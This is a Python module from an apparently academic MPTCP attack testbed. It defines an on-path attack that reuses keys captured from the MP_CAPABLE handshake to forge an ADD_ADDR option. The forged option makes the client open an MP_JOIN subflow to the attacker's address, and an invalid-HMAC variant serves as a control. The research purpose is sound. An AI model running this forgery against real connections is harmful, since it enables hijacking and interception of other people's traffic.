"""``add_addr_forged``: a tap on the initial path forges an ADD_ADDR, as if sent by the
server, announcing the attacker's own address to the client (claim A3).

It copies the sequence numbers, window and freshest timestamp of the server's latest
segment seen on the tap (PAWS would drop an older TSval), so the segment is accepted at
the TCP level either way. With ``hmac: invalid`` (one bit off) the client ignores the
option silently: no counter moves (MPTcpExtAddAddr flat) and no MP_JOIN SYN comes to the
attacker. With ``hmac: valid``, computed from the keys the tap read in its own capture of
the MP_CAPABLE handshake, the client accepts it (MPTcpExtAddAddr) and sends an MP_JOIN SYN
to the attacker's address. The invalid case is meaningful because the valid one, built
and injected identically, is accepted.
"""

from __future__ import annotations

from typing import Any, ClassVar

from attacks._mptcp_active import ActiveMptcpAttack
from testbed.model.params import ParamSpec
from testbed.runtime.mptcp_pcap import capable_handshakes


class AddAddrForged(ActiveMptcpAttack):
    kind: ClassVar[str] = "add_addr_forged"
    description: ClassVar[str] = ("tap forges an ADD_ADDR of its own address into the "
                                  "victim's subflow, HMAC valid (keys from its capture) or "
                                  "invalid; watches for the client's MP_JOIN SYN (A3)")
    positions: ClassVar[tuple[str, ...]] = ("tap",)
    own_capture: ClassVar[bool] = True
    params: ClassVar[dict[str, ParamSpec]] = {
        "hmac": ParamSpec("hmac", str, "invalid", "valid: computed from the keys seen on the "
                          "tap; invalid: the same with one bit flipped",
                          choices=("valid", "invalid")),
        "listen_s": ParamSpec("listen_s", float, 1.5, "how long to watch for join SYNs",
                              lo=0.1, hi=10.0),
    }

    result: dict[str, Any] | None = None

    def act(self) -> None:
        handshake = next((hs for hs in capable_handshakes(self.own_segments())
                          if hs.server == self.ctx.server_address
                          and hs.dport == self.ctx.port), None)
        if handshake is None:
            self.result = {"error": "no MP_CAPABLE handshake with both keys in the "
                                    "attacker's own capture", "keys_learned": False}
            return
        reply = self.ask({"op": "add_addr", "server": self.ctx.server_address,
                          "port": self.ctx.port, "client": handshake.client,
                          "client_port": handshake.sport,
                          "client_wscale": self.client_wscale(handshake.client,
                                                              handshake.sport),
                          "keys": [handshake.client_key, handshake.server_key],
                          "valid": self.values["hmac"] == "valid",
                          "listen_s": self.values["listen_s"]})
        reply.update(keys_learned=True, keys_source="the attacker's own tap capture",
                     victim_subflow=f"{handshake.client}:{handshake.sport}")
        self.result = reply

    def client_wscale(self, client: str, sport: int) -> int | None:
        """The window scale the client announced in its SYN (seen on the tap)."""
        for seg in self.own_segments():
            if seg.flags == "S" and seg.src == client and seg.sport == sport:
                return seg.wscale
        return None

    def finish(self) -> dict[str, Any]:
        return self.result or {"error": "the attack did not act"}
